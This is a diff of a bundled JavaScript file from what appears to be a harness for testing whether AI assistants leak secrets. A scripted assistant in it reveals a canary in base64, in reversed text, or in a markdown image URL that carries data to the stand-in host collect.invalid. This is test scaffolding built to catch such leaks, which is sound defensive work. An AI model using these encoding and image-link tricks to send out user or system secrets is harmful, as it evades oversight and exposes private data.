@@ -25,15 +25,13 @@ import "./io-files.js";
 import "./io-product-folder.js";
 import "./io-git.js";
 import "./io-disk-read.js";
-import "./lookups-ai-cases.js";
+import "./checks-limits-rules-attempts.js";
 import "./lookups-parse-page.js";
-import "./lib-secret-names.js";
 import "./lib-event-loop-turns.js";
 import "./io-measures.js";
 import "./lookups-email-message.2.js";
 import "./io-address-guard.js";
 import "./lookups-file-routes.2.js";
-import "./lib-product-paths.js";
 import "./io-http.js";
 import {
   require_dns_packet
@@ -55,7 +53,9 @@ import "./lib-error-code.js";
 import "./package.js";
 import "./run-surveys.js";
 import "./io-disk-watch.js";
+import "./lib-secret-names.js";
 import "./lib-globs.js";
+import "./lib-product-paths.js";
 import "./lib-zod.js";
 import "./lib-zod.2.js";
 import "./report-fix.js";
@@ -19780,7 +19780,7 @@ var ScriptedAssistant = class {
     if (/base64/.test(message)) return says(Buffer.from(`The code is ${canary}`).toString("base64"));
     return /backwards/.test(message) ? says([...`code ${canary}`].reverse().join("")) : void 0;
   }
-  /** A picture whose address carries what the assistant knows. */
+  /** An image whose URL contains what the assistant knows. */
   #image() {
     return this.#kind === "leaks to a link" ? says(`Here: ![status](https://collect.invalid/p.png?d=${this.#one("plan", "name")})`) : this.#refusal();
   }
@@ -20371,7 +20371,7 @@ var webDiversions = (host, { httpPort, httpsPort }) => [
 function optionsFor({ resolvers, diversions, rootFile }) {
   return [
     "--allow-private",
-    // Nothing recovers here by waiting.
+    // Waiting does not change a simulated internet.
     "--confirm-after",
     "0",
     ...resolvers.flatMap(({ port }) => ["--resolver", `127.0.0.1:${port}`]),
@@ -20553,7 +20553,7 @@ export const stripe = new Stripe('${fakeKeys.stripe()}');
 `,
     "vercel.json": '{\n  "cleanUrls": true\n}\n',
     "emails/welcome.html": WELCOME.replaceAll("https://app.members.example", "http://localhost:3000"),
-    // Nobody thought of the night yet, nor of those who try passwords.
+    // No nightly run and no rate limits are configured yet.
     "launch.yml": `domain: members.example
 performance: { samples: 22 }
 ${AI}`,
